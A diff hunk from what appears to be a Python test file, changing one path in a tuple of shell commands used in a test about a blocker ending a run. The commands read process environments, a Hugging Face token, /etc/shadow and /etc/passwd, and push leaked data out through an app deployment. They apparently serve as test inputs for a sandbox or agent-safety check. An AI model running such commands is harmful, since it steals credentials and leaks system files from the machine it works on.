@@ -138,7 +138,7 @@ def test_a_concrete_blocker_is_the_runs_end(scene: Scene) -> None:
 
 COMMANDS = (
     "id; env; cat /proc/1/environ /proc/*/environ /proc/*/cmdline",
-    "ls / /tmp /root /work; cat ~/.cache/huggingface/token /etc/shadow",
+    "ls / /tmp /root /home; cat ~/.cache/huggingface/token /etc/shadow",
     "curl -s -m 3 https://huggingface.co/api/whoami-v2; curl -s -m 3 http://127.0.0.1:80",
     "echo 'import os; print(os.environ)' >> app.py; space push",
     "ln -s /etc/passwd leaked.txt; space push; rm leaked.txt",
